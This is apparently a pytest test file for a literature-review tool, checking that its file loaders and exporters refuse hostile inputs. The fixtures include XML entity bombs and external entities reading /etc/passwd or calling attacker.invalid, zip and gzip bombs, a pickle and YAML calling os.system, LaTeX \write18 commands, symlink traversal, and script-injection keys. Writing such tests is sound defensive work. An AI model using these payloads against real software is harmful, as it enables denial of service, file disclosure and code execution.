"Files made to do harm: bombs, loops, links, devices, and text that makes slow readers slow"
import gzip
import io
import json
import os
import random
import re
import socket
import sys
import tempfile
import threading
import time
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest

import paperlit
from paperlit import ledger, load
from paperlit import sources
from paperlit.records import cleaned
from paperlit.citations import escape
from paperlit.core import Notice, SourceError, clean_doi, papers_table
from paperlit.duplicates import dedupe
from paperlit.export import to_html
from paperlit.latex import latex, unlatex
from paperlit.markdown import markdown_reader
from paperlit.notices import without_tags
from paperlit.results import find_results
from paperlit.saving import WRITERS
from paperlit.sentences import tag_sentences, tldr
from paperlit.systems import find_systems
from paperlit.text import clean, links, part_after, sentences, tokens
from paperlit.word import to_docx

GOOD = 'TY  - JOUR\nTI  - Weighing trees\nER  - \n'


def stream(data, name):
    out = io.BytesIO(data if isinstance(data, bytes) else data.encode())
    out.name = name
    return out


def refused(data, name, why, seconds=6):
    "The file is refused in one sentence that says why, in little time"
    start = time.process_time()
    with pytest.raises(SourceError, match=why) as e: load(stream(data, name), progress=False)
    assert '\n' not in str(e.value) and time.process_time() - start < seconds


def workbook(more=b''):
    first, out = io.BytesIO(), io.BytesIO()
    book = openpyxl.Workbook()
    for row in (['Title', 'Year'], ['=HYPERLINK("http://attacker.invalid")', 2001], ['On oaks', 2001]): book.active.append(row)
    book.save(first)
    with zipfile.ZipFile(first) as old, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as new:
        for n in old.namelist(): new.writestr(n, old.read(n).replace(b'</sheetData>', more + b'</sheetData>') if n.endswith('sheet1.xml') else old.read(n))
    return out.getvalue()


def zipped(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items(): z.writestr(name.replace('__', '.'), data)
    return out.getvalue()


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha">' + ''.join(f'<!ENTITY a{n} "{"&a;" * 10 if n == 0 else f"&a{n-1};" * 10}">' for n in range(12)) + ']>'
ARTICLE = '<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>{}</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>'
ODS = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S">{}</table:table></office:spreadsheet></office:body></office:document-content>'
ROW = '<table:table-row{}><table:table-cell office:value-type="string"><text:p>Title</text:p></table:table-cell></table:table-row>'


def ods(body):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('mimetype', 'application/vnd.oasis.opendocument.spreadsheet', zipfile.ZIP_STORED)
        z.writestr('content.xml', ODS.format(body))
    return out.getvalue()


HARM = {
    'entities that multiply': (LAUGHS + ARTICLE.format('&a11;'), 'a.xml', 'entities'), 'an entity of a file': ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ARTICLE.format('&x;'), 'a.xml', 'entities'),
    'a parameter entity': ('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.invalid/x.dtd"> %x;]>' + ARTICLE.format('x'), 'a.xml', 'entities'),
    'zip that swells': (zipped(a__ris=b'a' * (300 << 20)), 'a.zip', 'unpacks to more'), 'gzip that swells': (gzip.compress(b'TY  - ' * (50 << 20), 1), 'a.gz', 'unpacks to more|no place to cut'),
    'zip in a zip': (zipped(b__zip=zipped(a__ris=GOOD)), 'a.zip', 'archive in an archive'), 'JSON 100,000 deep': ('[' * 100_000 + ']' * 100_000, 'a.json', ''), 'JSON objects 100,000 deep': ('{"title":' * 100_000, 'a.json', ''),
    'XML 100,000 deep': ('<PubmedArticleSet><PubmedArticle>' + '<a>' * 100_000 + '</a>' * 100_000 + '</PubmedArticle></PubmedArticleSet>', 'a.xml', ''), 'workbook that swells': (workbook(b'<row r="9">' + b'<c t="inlineStr"><is><t>a</t></is></c>' * 2_500_000 + b'</row>'), 'a.xlsx', 'far more'),
    'OpenDocument rows': (ods(ROW.format('') + ROW.format(' table:number-rows-repeated="100000000"')), 'a.ods', 'more rows'), 'a PDF that is none': (b'%PDF-1.7\n' + b'1 0 obj<</Kids[1 0 R]/Type/Pages/Parent 1 0 R>>endobj\n' * 20 + b'trailer<</Root 1 0 R>>', 'a.pdf', ''),
    'a pickle': (b'\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x03cmd\x94\x85\x94R\x94.' + b'\0\1\2' * 50, 'a.pkl', ''), 'YAML that calls': ('cff-version: 1.2.0\ntitle: !!python/object/apply:os.system ["touch hit"]\n', 'CITATION.cff', 'YAML'),
    'YAML that multiplies': ('cff-version: 1.2.0\na: &a [x,x,x,x,x,x]\n' + ''.join(f'b{n}: &b{n} [{",".join(["*" + (f"b{n-1}" if n else "a")] * 9)}]\n' for n in range(12)), 'CITATION.cff', ''),
}


@pytest.mark.parametrize('name', HARM)
def test_harm_is_refused(name):
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        refused(*HARM[name])


@pytest.mark.parametrize('more', [b'<row r="900000000"><c r="A900000000"><v>1</v></c></row>', b''.join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (i, i) for i in range(9, 4000))])
def test_workbook_that_claims_billions_of_cells(more):
    start = time.process_time()
    papers = load(stream(workbook(more), 'a.xlsx'), progress=False)
    assert 'On oaks' in set(papers['title']) and (ledger(papers)['action'] == 'rejected').any() and time.process_time() - start < 8


def test_rubbish_of_a_million_records_fills_no_ledger():
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        papers = load(stream('{"title": "Trees"}' + f'"{"x" * 110}"' * 110_000, 'a.json'), progress=False)
    gone = ledger(papers).query('action == "rejected"')
    assert len(papers) == 1 and len(gone) == 100_001 and gone['reason'].str.startswith('10000 more records cannot be read').sum() == 1


def test_more_records_than_there_can_be_papers(monkeypatch):
    monkeypatch.setattr(sources, '_PAPER', 300_000)
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        papers = load(stream('Title\n' + 'a\n' * 10_000, 'a.csv'), progress=False)
    gone = ledger(papers).query('action == "rejected"')
    assert len(papers) == 3000 and len(gone) == 1 and 'too many to be papers' in gone['reason'].iloc[0]


def test_a_row_costs_the_cells_it_has():
    "Four thousand names and sixteen thousand rows of one cell are 44 KB, and were 64 million cells"
    start = time.process_time()
    papers = load(stream('title,abstract' + ',c' * 4000 + '\n' + ''.join(f'Tree {n}\n' for n in range(16_000)), 'a.csv'), progress=False)
    assert len(papers) == 16_000 and time.process_time() - start < 6


LONG_WORDS = 'Trees grow. ' * 8000
SHARED = {
    'fields of BibTeX': ('@xdata{p, abstract={' + LONG_WORDS + '}}\n' + ''.join(f'@article{{k{n}, title={{Tree {n}}}, xdata={{p}}}}\n' for n in range(2000)), 'a.bib'),
    'names of BibTeX': ('@string{a = "' + LONG_WORDS + '"}\n' + ''.join(f'@article{{k{n}, title={{Tree {n}}}, abstract=a # a # a}}\n' for n in range(2000)), 'a.bib'),
    'keywords of Citavi': ('<CitaviExchangeData><Keywords><Keyword ID="k"><Name>' + LONG_WORDS + '</Name></Keyword></Keywords><References>' + ''.join(f'<Reference ID="r{n}"><Title>Tree {n}</Title></Reference>' for n in range(2000)) + '</References><ReferenceKeywords>' + '<OnetoN>r1;k</OnetoN>' * 2000 + '</ReferenceKeywords></CitaviExchangeData>', 'a.ctv5'),
    'meetings of the ACL Anthology': ('<collection id="1"><volume><meta><booktitle>' + LONG_WORDS + '</booktitle></meta>\n' + ''.join(f'<paper id="{n}"><title>Tree {n}</title></paper>\n' for n in range(2000)) + '</volume></collection>', 'a.xml'),
    'journals of Zotero': ('<rdf:RDF xmlns:rdf="r" xmlns:z="http://www.zotero.org/namespaces/export#" xmlns:dc="d" xmlns:bib="b" xmlns:dcterms="t"><bib:Journal rdf:about="#j"><dc:title>' + LONG_WORDS + '</dc:title></bib:Journal>' + ''.join(f'<bib:Article rdf:about="#i{n}"><z:itemType>journalArticle</z:itemType><dc:title>Tree {n}</dc:title><dcterms:isPartOf rdf:resource="#j"/></bib:Article>' for n in range(2000)) + '</rdf:RDF>', 'a.rdf'),
}


@pytest.mark.parametrize('name', SHARED)
def test_what_is_written_once_fills_no_memory(name):
    "A hundred kilobytes that two thousand records take are 200 MB"
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        try: papers = load(stream(*SHARED[name]), progress=False)
        except SourceError as e: assert 'far more text than is in the file' in str(e); return
    said = sum(len(str(v)) for c in ('abstract', 'venue', 'keywords', 'extra') for v in papers[c])
    assert len(papers) and said < 20_000_000
    assert len(papers) == 2000 or ledger(papers)['reason'].str.contains('far more text than is in the file').any()


def test_entities_cost_no_memory():
    tracemalloc.start()
    try: refused(LAUGHS + ARTICLE.format('&a11;'), 'a.xml', 'entities'); peak = tracemalloc.get_traced_memory()[1]
    finally: tracemalloc.stop()
    assert peak < 20 << 20


@pytest.mark.parametrize('title', ['\\write18{touch hit}', '\\input{/etc/passwd}', '\\immediate\\write18{touch hit}'])
def test_commands_of_latex_are_text(title, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    papers = load(stream(f'@article{{a, title={{Trees {title}}}, abstract={{We weigh {title} trees.}}}}', 'a.bib'), progress=False)
    assert papers['title'].iloc[0].startswith('Trees') and 'root:' not in papers['abstract'].iloc[0] and not list(tmp_path.iterdir())


@pytest.mark.skipif(sys.platform == 'win32', reason='Windows has no such files')
def test_only_files_in_the_folder_are_opened(tmp_path):
    folder, outside = tmp_path/'papers', tmp_path/'secret.ris'
    folder.mkdir(); (tmp_path/'far').mkdir(); (tmp_path/'far'/'b.ris').write_text(GOOD)
    outside.write_text(GOOD.replace('trees', 'secrets'))
    (folder/'a\nb.ris').write_text(GOOD); (folder/'.. .ris').write_text(GOOD.replace('trees', 'leaves'))
    (folder/'out.ris').symlink_to(outside); (folder/'up.ris').symlink_to('../secret.ris'); (folder/'in.ris').symlink_to(folder/'.. .ris'); (folder/'gone.ris').symlink_to('nothing'); (folder/'round').symlink_to(folder); (folder/'far').symlink_to(tmp_path/'far')
    os.mkfifo(folder/'pipe.ris'); (folder/'null.ris').symlink_to('/dev/zero')
    server = socket.socket(socket.AF_UNIX)
    os.chdir(folder); server.bind('s.ris')
    result = []
    def read():
        with warnings.catch_warnings(): warnings.simplefilter('ignore', Notice); result.append(load(folder, progress=False))
    thread = threading.Thread(target=read, daemon=True)
    thread.start(); thread.join(20); server.close(); os.chdir(tmp_path)
    assert result, 'a pipe or a device was opened'
    assert set(result[0]['title']) == {'Weighing trees', 'Weighing leaves'}
    assert ledger(result[0]).query('action == "rejected"')['reason'].str.contains('outside of the folder').sum() == 2


@pytest.mark.skipif(sys.platform == 'win32', reason='Windows has no such files')
@pytest.mark.parametrize('path', ['/dev/zero', 'pipe'])
def test_no_device_and_no_pipe_is_opened(tmp_path, path):
    os.mkfifo(tmp_path/'pipe')
    with pytest.raises(SourceError, match='no file'): load(tmp_path/path, progress=False)


KEYS = ['cookie', 'location', 'a" onfocus="alert(1)', "b' x='", 'c><script>alert(1)</script>', 'd e', '__proto__', 'e&quot;f']


def test_no_id_of_a_page_is_made_of_data():
    "A key of a record is text in a page; `id=cookie` would hide a property of the document from every script"
    from html.parser import HTMLParser
    found = []
    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs): found.extend((tag, *a) for a in attrs)
    papers = papers_table([dict(title=f'On {k}', abstract='Oaks grow. They are tall.', source='a', record='L1') for k in KEYS], keys=KEYS)
    page = to_html('# On "cookie"\n\n## cookie\n\n' + ''.join(f'“Oaks grow.” [@{{{k}}}]\n\n' for k in KEYS) + '“Oaks grow.” [@cookie] Trees. [@location]\n', papers)
    Tags().feed(page)
    assert {v for _, n, v in found if n == 'id'} >= {'part-1', 'ref-1', 'ref-8', 'q-1-0'}
    assert [v for _, n, v in found if n == 'id' and not re.fullmatch(r'part-\d+|ref-\d+|q-\d+-\d+', v)] == []
    assert [(t, n, v) for t, n, v in found if n.startswith(('on', 'data-')) or n == 'name' and t != 'meta'] == []
    assert {v for t, n, v in found if n == 'href' and v.startswith('#')} >= {'#q-1-0', '#ref-2'}


UNITS = dict(brace='{', closed='}', entry='@a{', tag='<a>', end='</a>', quote='"', apostrophe="'", back='\\', dollar='$', ris='TY  - ', ris_line='TY  - JOUR\n', space=' ', comma=',', semicolon=';', stop='.', stop_word='. A', cite='[@', cites='[@a; ', bracket='[', parenthesis='(', ampersand='&', entity='&amp;',
    star='*', strong='**a', under='_', percent='%', line='\n', letter='a', capital='A', camel='Aa', digit='1', address='http://a', macro='\\a{', accent="\\'{", formula='$a_', combining='e\u0301', joiner='a\u200b', cdata='<![CDATA[', comment='<!--', doctype='<!DOCTYPE a [', number='&#x', object='{"a":', array='[[',
    csv='a,"', doubled='""', mojibake='â€', curly='“', curly_cite='“b” [@a] ', pipe='| a ', picture='![](', link='[a](', initials='J. ', names='Roe, A., ', abbreviation='e.g. ', glued='Our-', glued_names='OurAb{n} ', words='outperforms ', acronym='(ABC) ', doi='10.1000/a)', bullet='- ', heading='# ', sup='<sup>',
    present='We present Ab{n}. ', linked='http://a.b/c, See. ', enumerated='1. ii. ', short_forms='Bold Net (BN{n}) ', better='Ab{n} outperforms Bc by 5%. ', tailed='10.1000/{n}) ', year='(2020) ', told='in terms of 5% ', compared='and 3 than ', shut=')', objects='{"a":1}', broken_objects='{"a":x}', nulls='null,', numbers='1,', lists='[1],', tied='TY  - JOUR\nER  - \n', titled='TY  - JOUR\nTI  - a\nER  - \n',
    alternatives='<alternatives><tex-math>', joined='AbNetis-')
LONG = {'results': find_results, 'systems': find_systems, 'tldr': tldr, 'roles': tag_sentences}


def paper(text): return papers_table([dict(title='Trees', abstract=text, source='a', record='L1')])


def papers_with(text):
    "A table with a third of the text as an abstract, a third as a title, and the rest as many short ones"
    a, b = len(text) // 3, 2 * len(text) // 3
    short = [text[i:i+200] for i in range(b, len(text), 200)]
    return papers_table([dict(title=t, abstract=x, source='a', record=f'L{n}') for n, (t, x) in enumerate([('Trees', text[:a]), (text[a:b], 'Trees grow.'), *((s[:60], s[60:]) for s in short)])])


def written(suffix):
    "A writer of the whole table"
    def write(text):
        with tempfile.TemporaryDirectory() as folder: WRITERS[suffix](papers_with(text), Path(folder)/f'a{suffix}')
    return write


def quoting(text):
    "A review that quotes each abstract, and its table"
    papers = papers_with(text)
    return '# T\n\n' + '\n\n'.join(f'“{escape(a)}” [@{k}]' for k, a in papers['abstract'].items()), papers


def quoting_all(text):
    "A review that quotes each sentence of a long abstract"
    papers = paper(text)
    abstract = papers['abstract'].fillna('').iloc[0]
    return '# T\n\n' + '\n\n'.join(f'“{escape(abstract[a:b])}” [@{papers.index[0]}]' for a, b in sentences(abstract)), papers


def in_record(name):
    "A reader fed with a record whose abstract is the text"
    before, after = dict(ris=('TY  - JOUR\nAB  - ', '\nER  - \n'), bibtex=('@article{a, abstract={', '}}\n'), nbib=('PMID- 1\nAB  - ', '\n'), csv=('Title,Abstract\nA,', '\n'), jsonl=('{"title": "', '"}\n'), pubmed_xml=('<PubmedArticle><Abstract>', '</Abstract></PubmedArticle>'), listing=('On trees\n\n', '\n'))[name]
    return lambda text: list(sources.FORMATS[name].read(before + text + after))


STEPS = {'clean': clean, 'tags': lambda t: without_tags('<i>' + t), 'part_after': lambda t: part_after('Abis ' + t), 'sentences': sentences, 'tokens': tokens, 'links': links, 'unlatex': unlatex, 'latex': latex, 'escape': escape, 'cleaned': lambda t: cleaned(dict(title=t, abstract=t, doi=t, arxiv_id=t, language=t)), **{n: lambda t, f=f: f(paper(t)) for n, f in LONG.items()},
    'html': lambda t: to_html(t, paper('a')), 'docx': lambda t: to_docx(t, paper('a'), {}, 'T'), 'clean_doi': lambda t: clean_doi('10.1000/' + t), **{f'save {s}': written(s) for s in WRITERS}, **{f'many {n}': lambda t, f=f: f(papers_with(t)) for n, f in LONG.items()}, 'dedupe': lambda t: dedupe(papers_with(t)),
    'quoting html': lambda t: to_html(*quoting(t)), 'quoting docx': lambda t: to_docx(*quoting(t), {}, 'T'), 'quoting all html': lambda t: to_html(*quoting_all(t)), **{f'read {n}': (lambda t, f=f: list(f.read(t))) for n, f in sources.FORMATS.items() if not f.binary}, **{f'{n} record': in_record(n) for n in ('ris', 'bibtex', 'nbib', 'csv', 'jsonl', 'pubmed_xml', 'listing')}}
SIZE = 1024 if not os.environ.get('LONG') else 65_536
SLOW = {*LONG, *(f'many {n}' for n in LONG), *(f'save {s}' for s in WRITERS), 'docx', 'html', 'quoting docx', 'quoting html', 'quoting all html', 'dedupe', 'cleaned', 'clean'} # Of these a third of the families, but with `LONG=1`


def repeated(unit, size): return ''.join(unit.replace('{n}', str(n)) for n in range(size // len(unit) + 1))[:size]


def cpu(step, text):
    start = time.process_time()
    try: step(text)
    except (SourceError, RecursionError): pass
    return time.process_time() - start


def growth(step, unit, size):
    "How many times longer 4 times the text takes, as the power of its length: 1 is linear, 2 quadratic. Short times are taken as linear"
    longer = cpu(step, repeated(unit, 4 * size))
    if longer < .15 * size / 4096: return 1, longer
    import math
    longer, short = min(longer, *(cpu(step, repeated(unit, 4 * size)) for _ in range(2))), min(cpu(step, repeated(unit, size)) for _ in range(3))
    return math.log(longer / max(short, 1e-4), 4), longer


@pytest.mark.parametrize('name', STEPS)
def test_time_is_linear(name):
    some = slice(None, None, 3 if name in SLOW and not os.environ.get('LONG') else 1)
    found = {family: growth(STEPS[name], unit, SIZE) for family, unit in [*UNITS.items()][some]}
    assert {f: (round(p, 2), round(t, 2)) for f, (p, t) in found.items() if p > 1.3 and t > .1} == {}


def test_a_quadratic_step_is_seen(): assert growth(lambda t: [sum(c == 'z' for c in t[:i]) for i in range(0, len(t), 12)], 'a', SIZE * 8)[0] > 1.3


PIECES = [*'*_[]()!\\ \t\n`<>&"~|:é—！“”', '**', '__', '](', '![', '\\\n', '  \n', ' \n', '\n\n', '\n    ', '\n---\n', '\n===\n', '1. ', '- ', '# ', '> ', '``', '~~~\n', '&amp;', '&#65;', '&bogus;', '<a>', '<http://a.b>', '<a@b.c>', '[@a]', '[@a; @b]', '[@', '“x” [@a]', '$a_1$', '\\alpha', '\\_', '\\“',
    'a', 'b c', 'A.', 'a_b', '_a_', '**a**', '| a | b |\n', '|---|---|\n', '[x]: http://a.b\n', '[x]', '[x](http://a.b "t")', '![i](p.png)', '\xa0', '\u2028', 'b*\u2028*', 'b*\u0301*']


def test_markdown_read_in_runs_is_read_as_sign_by_sign():
    "What is read in runs, for the sake of time, shows what markdown-it makes of it alone"
    from markdown_it.rules_block import hr
    rnd, readers = random.Random(0), [markdown_reader(), markdown_reader()]
    readers[1].disable(['plain', 'letters'])
    readers[1].block.ruler.at('hr', hr, {'alt': ['paragraph', 'reference', 'blockquote', 'list']})
    for reader in readers: reader.add_render_rule('citation', lambda _, tokens, i, *more: f'<{tokens[i].meta}>')
    for _ in range(2000):
        some = rnd.sample(PIECES, rnd.choice((2, 4, 8, len(PIECES))))
        text = ''.join(rnd.choices(some, k=rnd.choice((3, 8, 30))))
        fast, slow = (reader.render(text) for reader in readers)
        assert fast == slow, text


def test_there_are_enough_families(): assert len(UNITS) >= 30


@pytest.fixture(scope='module')
def saved_topics(tmp_path_factory):
    texts = [f'{w} {v} by the river' for w in ('Old trees', 'Young birds', 'Long boats') for v in ('grow', 'rest', 'move', 'turn')]
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        return paperlit.fit_topics(papers_table([dict(title=t) for t in texts]), n_topics=2).save(tmp_path_factory.mktemp('saved')/'topics')


@pytest.mark.parametrize('name', ['model2vec:somebody/model', 'somebody/model', '/etc', '../..', None, 7, ['os.system'], {'__reduce__': 'os.system'}])
def test_saved_topics_of_a_stranger_start_no_model(saved_topics, monkeypatch, name):
    from paperlit import embedders
    folder = saved_topics
    (folder/'topics.json').write_text(json.dumps(json.loads((folder/'topics.json').read_text()) | dict(embedder=name)))
    started = []
    monkeypatch.setattr(embedders, 'kept_vectors', lambda *a: started.append(a))
    monkeypatch.setattr(embedders, 'need', lambda *a: started.append(a))
    topics = paperlit.Topics.load(folder)
    assert len(topics.table) == 2 and topics.hierarchy() is not None
    with pytest.raises(ValueError, match='give it, as in Topics.load'): topics.predict(['Old trees'])
    assert started == []
    with pytest.raises(ValueError): paperlit.Topics.load(folder, embedder='somebody/model').predict(['Old trees'])
    assert started, 'a model that is started would not be seen'
